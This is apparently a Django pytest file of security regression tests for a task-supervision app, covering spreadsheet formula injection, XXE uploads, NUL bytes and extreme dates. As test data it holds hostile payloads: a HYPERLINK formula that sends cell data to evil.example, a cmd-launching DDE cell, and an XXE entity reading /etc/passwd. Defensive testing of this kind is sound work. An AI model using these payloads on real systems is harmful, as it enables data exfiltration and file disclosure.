"""Attacks that the other security tests did not cover, each found against the running app.

- Formula injection: a unit's report text reaches the office's ledger download; text
  starting with `=` was written by openpyxl as a live formula, and CSV cells starting
  with = + - @ were left for Excel to run.
- Control characters in report text made the ledger download a 500 for everyone.
- Extreme `as_of` dates overflowed the dashboard's date arithmetic (500).
- Very long search texts reached SQLite as LIKE patterns it refuses (503).
- A NUL in the admin's list-filter query string reached PostgreSQL (500).
- (issue 17) A spreadsheet whose sheet XML declares entities (billion laughs, XXE) was
  a 500 in the ledger and unit-user imports; an API report's file was dropped with a
  201; a 1 KB deeply nested JSON body was a 500.
"""

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from django.test import Client
from openpyxl import load_workbook

from supervision.choices import PeriodKind
from supervision.models import AssessmentPeriod
from tasks.services import report_submit

from .conftest import make_task, make_unit, make_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B3,"点击查看详情")'


def sheet_formulas(content: bytes) -> list[str]:
    """Every formula (<f>) stored in any worksheet of an .xlsx file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            formula
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for formula in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
        ]


def cell_values(content: bytes) -> set:
    workbook = load_workbook(io.BytesIO(content), data_only=True)
    return {cell for sheet in workbook.worksheets for row in sheet.values for cell in row}


@pytest.fixture
def reported(settings, tmp_path):
    """A unit's task whose latest report text is `text` (set by the test through `report`)."""
    settings.PRIVATE_MEDIA_ROOT = tmp_path
    unit = make_unit("区发改局")
    task = make_task(lead_units=[unit], due_on=date(2030, 6, 30))
    user = make_user(units=[unit])

    def report(text):
        task.refresh_from_db()
        report_submit(
            task=task,
            user=user,
            status="in_progress",
            progress=20,
            text=text,
            expected_version=task.version,
        )
        return task

    return report


def test_report_text_starting_with_equals_is_text_not_a_formula_in_the_ledger(
    client, reported, office_user
):
    task = reported(HYPERLINK)
    client.force_login(office_user)
    response = client.get(f"/plans/{task.plan_id}/ledger.xlsx")
    assert response.status_code == 200
    assert sheet_formulas(response.content) == []
    # the text itself is kept, so a re-imported ledger reads back what the unit wrote
    assert HYPERLINK in cell_values(response.content)


def test_control_characters_in_report_text_do_not_break_the_ledger_download(
    client, reported, office_user
):
    task = reported("已完成\x01调研\x0b报告")
    client.force_login(office_user)
    response = client.get(f"/plans/{task.plan_id}/ledger.xlsx")
    assert response.status_code == 200
    assert "已完成调研报告" in cell_values(response.content)


def test_task_csv_export_neutralises_cells_that_excel_would_run(client, office_user):
    unit = make_unit("@SUM(1+1)*cmd|' /C calc'!A0")
    task = make_task(lead_units=[unit])
    task.title, task.body = "=1+2", "-2+3 推进改革"
    task.save()
    client.force_login(office_user)
    response = client.get("/api/tasks/?format=csv")
    assert response.status_code == 200
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    (row,) = rows
    assert row["任务"] == "'=1+2"
    assert row["任务内容"] == "'-2+3 推进改革"
    assert row["牵头单位"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["进度(%)"] == "0"  # numbers stay numbers


def test_bulletin_and_scores_downloads_store_formula_looking_names_as_text(client, leader_user):
    unit = make_unit(HYPERLINK)
    make_task(lead_units=[unit], due_on=date(2021, 3, 31))
    AssessmentPeriod.objects.create(
        name="=2021年第一季度",
        kind=PeriodKind.QUARTER,
        starts_on=date(2021, 1, 1),
        ends_on=date(2021, 3, 31),
    )
    client.force_login(leader_user)
    for url in ("/dashboard/bulletin.xlsx?as_of=2021-05-01", "/supervision/scores.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert sheet_formulas(response.content) == [], url
        assert HYPERLINK in cell_values(response.content), url


@pytest.mark.parametrize(
    "url",
    [
        "/dashboard/?as_of={}",
        "/dashboard/bulletin/?as_of={}",
        "/dashboard/bulletin.xlsx?as_of={}",
        "/api/dashboard/?as_of={}",
        "/api/tasks/?as_of={}&due_soon=true",
        "/api/reports/?created_after={}",
    ],
)
@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_dates_at_the_ends_of_the_calendar_are_400_not_500(leader_user, url, day):
    client = Client(raise_request_exception=False)
    client.force_login(leader_user)
    make_task(lead_units=[make_unit()], due_on=date(2021, 3, 31))
    assert client.get(url.format(day)).status_code == 400


@pytest.mark.parametrize("url", ["/?q={}", "/api/tasks/?q={}", "/api/units/?q={}"])
def test_overlong_search_text_is_refused_not_a_server_error(url):
    client = Client(raise_request_exception=False)
    unit = make_unit()
    make_task(lead_units=[unit])
    client.force_login(make_user(units=[unit]))
    response = client.get(url.format("改" * 60_000))
    assert response.status_code in (200, 400)
    if url.startswith("/api/"):
        assert response.status_code == 400
        assert "q" in response.json()["errors"]


def test_nul_in_an_admin_list_filter_never_reaches_the_database(client, office_user):
    task = make_task(lead_units=[make_unit()])
    task.status = "in_progress"
    task.save()
    client.force_login(office_user)
    response = client.get("/admin/tasks/task/?status__exact=in_progress%00")
    assert response.status_code == 200
    changelist = response.context["cl"]
    assert "\x00" not in repr(changelist.params) + changelist.query
    assert list(changelist.result_list) == [task]


def test_nul_in_an_admin_autocomplete_term_is_dropped(client, office_user):
    client.force_login(office_user)
    unit = make_unit("区发改局")
    response = client.get(
        "/admin/autocomplete/",
        {"app_label": "tasks", "model_name": "taskunit", "field_name": "unit", "term": "发改\x00"},
    )
    assert response.status_code == 200
    assert [row["id"] for row in response.json()["results"]] == [str(unit.pk)]


def test_responses_for_a_signed_in_user_are_not_stored_by_the_browser(client, office_user):
    from .conftest import make_task

    task = make_task()
    client.force_login(office_user)
    for url in ("/", f"/tasks/{task.pk}/", "/api/tasks/", "/dashboard/"):
        cache_control = client.get(url)["Cache-Control"]
        assert "no-store" in cache_control and "private" in cache_control, url


XXE_SHEET = (
    b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    b"</sheetData></worksheet>"
)


def _with_sheet(workbook_bytes: bytes, sheet_xml: bytes) -> bytes:
    original = zipfile.ZipFile(io.BytesIO(workbook_bytes))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for entry in original.infolist():
            content = original.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                content = sheet_xml
            archive.writestr(entry, content)
    return buffer.getvalue()


def test_xxe_spreadsheet_uploads_in_the_admin_are_refused_not_a_500(client, office_user):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse
    from openpyxl import Workbook

    from tasks.ledger import ledger_workbook

    from .conftest import make_plan

    plan = make_plan()
    make_task(plan=plan, lead_units=[make_unit()])
    ledger = io.BytesIO()
    ledger_workbook(title=plan.title, tasks=plan.tasks.all()).save(ledger)
    users = io.BytesIO()
    Workbook().save(users)
    client.force_login(office_user)
    client.raise_request_exception = False
    uploads = [
        (
            reverse("admin:tasks_plan_ledger_import"),
            {"plan": plan.pk},
            "workbook",
            _with_sheet(ledger.getvalue(), XXE_SHEET),
        ),
        (
            "/admin/units/unitmembership/import/",
            {},
            "file",
            _with_sheet(users.getvalue(), XXE_SHEET),
        ),
    ]
    for url, data, field, content in uploads:
        response = client.post(url, {**data, field: SimpleUploadedFile("x.xlsx", content)})
        assert response.status_code < 500, url
        assert "文件无法读取" in response.content.decode(), url
        assert "root:" not in response.content.decode()


def test_api_report_never_answers_201_without_the_file_it_was_sent(reported, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from rest_framework.test import APIClient

    from tasks.models import ProgressReport

    task = reported("第一次")
    user = ProgressReport.objects.get(task=task).author
    client = APIClient()
    client.force_authenticate(user)
    for field, upload in (
        ("file", SimpleUploadedFile("报告.pdf", b"%PDF-1.4 ok")),
        ("attachment", SimpleUploadedFile("报告.pdf", b"MZ\x90\x00 an executable")),
    ):
        response = client.post(
            f"/api/tasks/{task.pk}/reports/",
            {
                "status": "in_progress",
                "progress": 30,
                "text": "附件",
                "version": task.version,
                field: upload,
            },
            format="multipart",
        )
        assert response.status_code == 400, (field, response.content)
    assert ProgressReport.objects.filter(task=task).count() == 1
